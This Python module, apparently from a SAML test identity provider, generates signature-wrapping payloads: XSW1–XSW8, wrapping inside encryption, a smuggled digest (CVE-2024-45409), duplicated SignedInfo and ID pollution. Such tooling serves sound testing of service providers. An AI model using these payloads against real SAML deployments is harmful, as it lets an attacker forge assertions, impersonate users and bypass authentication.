"""Signature wrapping: the signature holds, and covers something else than what is read (rows S1-S12).

XSW1 to XSW8 as in "On Breaking SAML: Be Whoever You Want to Be", with the IDs that the SAML Raider tool
gives; where it keeps one ID twice there is a second form with two IDs.
"""

from __future__ import annotations

import copy

from devidp import saml_xml as sx
from devidp.saml_attack import (
    Context,
    Pieces,
    Table,
    digest_of,
    encrypted_assertion,
    envelope,
    evil_assertion,
    filled,
)
from devidp.saml_response import Recipe, unsigned
from devidp.saml_xml import DS, SAML, SAMLP

WRAPPING = Table()


@WRAPPING.attack("S1")
def xsw1(context: Context) -> bytes:
    """The evil Response carries the honest Response's signature, and the honest Response inside it."""
    pieces = Pieces.of(context, "response")
    tree = unsigned(context.evil())
    sx.need(tree, "Issuer").addnext(sx.hole("signature"))
    return filled(tree, signature=pieces.signature_with("original"), original=pieces.bare)


@WRAPPING.attack("S2")
def xsw2(context: Context) -> bytes:
    """The evil Response has the honest Response before the signature, which is detached."""
    pieces = Pieces.of(context, "response")
    tree = unsigned(context.evil())
    issuer = sx.need(tree, "Issuer")
    issuer.addnext(sx.hole("signature"))
    issuer.addnext(sx.hole("original"))
    return filled(tree, original=pieces.bare, signature=pieces.signature_with())


@WRAPPING.attack("S3")
def xsw3(context: Context) -> bytes:
    """An evil Assertion stands before the signed one."""
    pieces = Pieces.of(context)
    tree = envelope(context.recipe, "evil", "original")
    return filled(tree, evil=evil_assertion(context.evil()), original=pieces.signed)


@WRAPPING.attack("S4")
def xsw4(context: Context) -> bytes:
    """The signed Assertion is a child of the evil one."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(), last="original")
    return filled(envelope(context.recipe, "evil"), evil=evil, original=pieces.signed)


@WRAPPING.attack("S5")
def xsw5(context: Context) -> bytes:
    """The evil Assertion carries the signature, and the honest one stands behind it without."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(), after_issuer="signature")
    tree = envelope(context.recipe, "evil", "original")
    return filled(tree, evil=evil, signature=pieces.signature_with(), original=pieces.bare)


@WRAPPING.attack("S6")
def xsw6(context: Context) -> bytes:
    """The evil Assertion carries the signature, which has the honest one inside it."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(), after_issuer="signature")
    tree = envelope(context.recipe, "evil")
    return filled(tree, evil=evil, signature=pieces.signature_with("original"), original=pieces.bare)


def _in_extensions(context: Context, recipe: Recipe) -> bytes:
    pieces = Pieces.of(context)
    tree = envelope(context.recipe, "original")
    extensions = tree.makeelement(sx.q(SAMLP, "Extensions"))
    sx.need(tree, "Issuer").addnext(extensions)
    extensions.append(sx.hole("evil"))
    return filled(tree, evil=evil_assertion(recipe), original=pieces.signed)


@WRAPPING.attack("S7")
def xsw7(context: Context) -> bytes:
    """An evil Assertion of the same ID stands in Extensions, before the signed one."""
    return _in_extensions(context, context.evil(assertion_id=context.recipe.assertion_id))


@WRAPPING.attack("S7")
def xsw7_other_id(context: Context) -> bytes:
    """As xsw7, but the evil Assertion has an ID of its own."""
    return _in_extensions(context, context.evil())


def _in_object(context: Context, recipe: Recipe) -> bytes:
    pieces = Pieces.of(context)
    signature = pieces.signature
    sx.add(signature, DS, "Object").append(sx.hole("original"))
    evil = evil_assertion(recipe, after_issuer="signature")
    tree = envelope(context.recipe, "evil")
    return filled(tree, evil=evil, signature=sx.canonical(signature), original=pieces.bare)


@WRAPPING.attack("S8")
def xsw8(context: Context) -> bytes:
    """The evil Assertion carries the signature, whose ds:Object holds the honest one of the same ID."""
    return _in_object(context, context.evil(assertion_id=context.recipe.assertion_id))


@WRAPPING.attack("S8")
def xsw8_other_id(context: Context) -> bytes:
    """As xsw8, but the evil Assertion has an ID of its own."""
    return _in_object(context, context.evil())


@WRAPPING.attack("S9")
def two_assertions(context: Context) -> bytes:
    """The signed Assertion comes first, an evil one without signature second."""
    pieces = Pieces.of(context)
    tree = envelope(context.recipe, "original", "evil")
    return filled(tree, original=pieces.signed, evil=evil_assertion(context.evil()))


@WRAPPING.attack("S9")
def two_assertions_one_id(context: Context) -> bytes:
    """As two_assertions, and both have the same ID."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(assertion_id=context.recipe.assertion_id))
    return filled(envelope(context.recipe, "original", "evil"), original=pieces.signed, evil=evil)


@WRAPPING.attack("S9")
def two_assertions_one_id_evil_first(context: Context) -> bytes:
    """Both have the same ID, and the evil Assertion comes first."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(assertion_id=context.recipe.assertion_id))
    return filled(envelope(context.recipe, "evil", "original"), evil=evil, original=pieces.signed)


@WRAPPING.attack("S9")
def evil_assertion_in_advice(context: Context) -> bytes:
    """The signed Assertion follows an evil one that holds it in its Advice."""
    pieces = Pieces.of(context)
    made = sx.own(evil_assertion(context.evil()))
    advice = made.makeelement(sx.q(SAML, "Advice"))
    advice.append(sx.hole("original"))
    sx.need(made, "Conditions").addnext(advice)
    return filled(envelope(context.recipe, "evil"), evil=sx.text_of(made), original=pieces.signed)


# -- inside encryption (S10) ---------------------------------------------------------------------------


def _encrypted(context: Context, plain: bytes, *others: bytes) -> bytes:
    names = [f"part{n}" for n in range(len(others))]
    tree = envelope(context.recipe, "encrypted", *names)
    parts = dict(zip(names, others, strict=True))
    return filled(tree, encrypted=encrypted_assertion(context.recipe, plain), **parts)


@WRAPPING.attack("S10")
def encrypted_xsw4(context: Context) -> bytes:
    """What decrypts is an evil Assertion with the signed one as its child."""
    evil = evil_assertion(context.evil(), last="original")
    return _encrypted(context, evil.replace(b"<?devidp original?>", Pieces.of(context).signed))


@WRAPPING.attack("S10")
def encrypted_xsw6(context: Context) -> bytes:
    """What decrypts is an evil Assertion whose signature has the honest one inside."""
    pieces = Pieces.of(context)
    evil = evil_assertion(context.evil(), after_issuer="signature")
    evil = evil.replace(b"<?devidp signature?>", pieces.signature_with("original"))
    return _encrypted(context, evil.replace(b"<?devidp original?>", pieces.bare))


@WRAPPING.attack("S10")
def encrypted_two(context: Context) -> bytes:
    """What decrypts are two elements, the signed Assertion and an evil one."""
    return _encrypted(context, Pieces.of(context).signed + evil_assertion(context.evil()))


@WRAPPING.attack("S10")
def encrypted_beside_signed(context: Context) -> bytes:
    """An evil Assertion, encrypted and not signed, stands before the signed one in the open."""
    return _encrypted(context, evil_assertion(context.evil()), Pieces.of(context).signed)


@WRAPPING.attack("S16")
def encrypted_unsigned(context: Context) -> bytes:
    """Only an evil Assertion, encrypted and not signed: encryption proves nothing about the sender."""
    return _encrypted(context, evil_assertion(context.evil()))


# -- which digest, which SignedInfo (S11) --------------------------------------------------------------


def _same_id(context: Context) -> bytes:
    return evil_assertion(context.evil(assertion_id=context.recipe.assertion_id), after_issuer="signature")


@WRAPPING.attack("S11")
def smuggled_digest(context: Context) -> bytes:
    """The DigestValue of the evil content stands in StatusDetail, before the signature (CVE-2024-45409)."""
    pieces = Pieces.of(context)
    evil = _same_id(context)
    tree = envelope(context.recipe, "evil")
    detail = sx.add(sx.need(tree, "Status"), SAMLP, "StatusDetail")
    sx.add(detail, DS, "DigestValue", digest_of(_no_holes(evil)), nsmap={"ds": DS})
    return filled(tree, evil=evil, signature=pieces.signature_with())


def _no_holes(text: bytes) -> bytes:
    return text.replace(b"<?devidp signature?>", b"")


def _two_signed_infos(context: Context, *, evil_first: bool) -> bytes:
    pieces = Pieces.of(context)
    evil = _same_id(context)
    info = sx.need(pieces.signature, "SignedInfo")
    false = copy.deepcopy(info)
    sx.need(false, "Reference/DigestValue").text = digest_of(_no_holes(evil))
    if evil_first:
        info.addprevious(false)
    else:
        info.addnext(false)
    return filled(envelope(context.recipe, "evil"), evil=evil, signature=pieces.signature_with())


@WRAPPING.attack("S11")
def two_signed_infos(context: Context) -> bytes:
    """Two SignedInfo: the first has the digest of the evil content, the second is the one that was signed."""
    return _two_signed_infos(context, evil_first=True)


@WRAPPING.attack("S11")
def two_signed_infos_evil_last(context: Context) -> bytes:
    """Two SignedInfo: the first is the one that was signed, the second has the evil digest."""
    return _two_signed_infos(context, evil_first=False)


@WRAPPING.attack("S11")
def digest_in_comment(context: Context) -> bytes:
    """The evil digest stands in a comment inside DigestValue, which canonicalisation takes out."""
    pieces = Pieces.of(context)
    evil = _same_id(context)
    value = f"<ds:DigestValue><!--{digest_of(_no_holes(evil))}-->".encode()
    signature = pieces.signature_with().replace(b"<ds:DigestValue>", value)
    return filled(envelope(context.recipe, "evil"), evil=evil, signature=signature)


# -- which ID (S12) ------------------------------------------------------------------------------------


def _polluted(context: Context, name: str) -> bytes:
    pieces = Pieces.of(context)
    made = sx.own(evil_assertion(context.evil(), after_issuer="signature"))
    made.set(name, context.recipe.assertion_id)
    tree = envelope(context.recipe, "evil", "original")
    return filled(tree, evil=sx.text_of(made), signature=pieces.signature_with(), original=pieces.bare)


@WRAPPING.attack("S12")
def attribute_pollution(context: Context) -> bytes:
    """The evil Assertion has saml:ID beside ID: who ignores namespaces reads the signed one's ID."""
    return _polluted(context, sx.q(SAML, "ID"))


@WRAPPING.attack("S12")
def xml_id(context: Context) -> bytes:
    """The evil Assertion has the signed one's ID as its xml:id."""
    return _polluted(context, "{http://www.w3.org/XML/1998/namespace}id")
